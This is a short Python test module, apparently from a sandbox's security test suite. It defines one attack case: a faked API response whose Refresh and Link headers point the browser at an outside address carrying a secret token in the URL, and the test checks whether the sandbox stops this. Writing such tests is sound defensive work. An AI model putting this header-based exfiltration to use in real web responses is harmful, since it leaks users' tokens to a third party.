"""A header sends the browser on to an address that holds the data."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    ground.answers(
        "api/me",
        "{}",
        {"Refresh": f"0; url=http://203.0.113.9/{ground.token}", "Link": f"<//x/{ground.token}>; rel=preload"},
    )
    return ground.gets("api/me")


ATTACK = Attack(
    "a server of one's own",
    attempt,
    unrecorded="Headers that are not listed are left out of every answer, which nobody needs to hear of.",
)
